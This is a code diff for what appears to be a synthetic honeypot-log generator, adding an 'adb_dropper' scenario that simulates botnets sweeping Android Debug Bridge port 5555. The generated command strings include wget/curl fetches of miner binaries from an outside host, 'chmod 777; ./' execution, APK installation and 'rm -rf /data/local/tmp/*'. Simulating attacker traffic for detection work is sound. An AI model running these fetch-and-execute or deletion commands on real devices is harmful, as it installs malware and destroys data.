@@ -886,6 +886,7 @@ fn botnet(c: &mut Ctx<'_>) -> &'static str {
         &["dropper", "dropper", "c2_beacon", "proxy_abuse"],
         &[
             (1, "jittered_beacon"),
+            (1, "adb_dropper"),
             (2, "brute_then_drop"),
             (2, "infected_workstation"),
             (3, "quiet_bot"),
@@ -920,11 +921,48 @@ fn botnet(c: &mut Ctx<'_>) -> &'static str {
             let t = c.events.first().map_or(0, |e| e.timestamp.as_micros()) + c.secs(60.0, 3600.0);
             beacon_from(c, t, c2, (600.0, 3600.0), 0.5, (4, 15));
         }
+        "adb_dropper" => adb_dropper(c),
         "c2_beacon" => beacon(c, (30.0, 300.0), 0.05, (20, 150)),
         "jittered_beacon" => beacon(c, (300.0, 1800.0), 0.5, (8, 40)),
         _ => proxy_abuse(c),
     }
     name
+}
+
+/// An Android-debug-bridge bot (the miners and botnets that sweep port 5555): it pushes
+/// an APK or a binary, or fetches one, makes it executable and starts it, in one to three
+/// sessions.
+fn adb_dropper(c: &mut Ctx<'_>) {
+    c.external();
+    let mut t = c.anytime();
+    let host = c.public_ip();
+    let name = c.pick(&["ufo.apk", "trinity", "com.ufo.miner", "x86", "arm7", ".b"]);
+    for _ in 0..c.count(1, 3) {
+        let mut commands =
+            vec![c.pick(&["cd /data/local/tmp/", "shell:cd /data/local/tmp"]).to_owned()];
+        let upload = c.chance(0.5).then_some(name);
+        if upload.is_none() {
+            let tool = c.pick(&["busybox wget", "wget", "curl -O", "toybox wget"]);
+            commands.push(format!("{tool} http://{host}/{name}"));
+        }
+        commands.push(if name.ends_with(".apk") {
+            format!("pm install /data/local/tmp/{name}")
+        } else {
+            format!("chmod 777 {name}; ./{name}")
+        });
+        if c.chance(0.5) {
+            commands.push(
+                c.pick(&[
+                    "am start -n com.ufo.miner/.MainActivity",
+                    "rm -rf /data/local/tmp/*",
+                    "ps | grep trinity",
+                ])
+                .to_owned(),
+            );
+        }
+        t = c.adb(t, &commands, upload);
+        t += c.log_secs(60.0, 6.0 * 3600.0);
+    }
 }
 
 /// A dropper script in the shape Cowrie records: probes, hiding, fetch, run, persist,
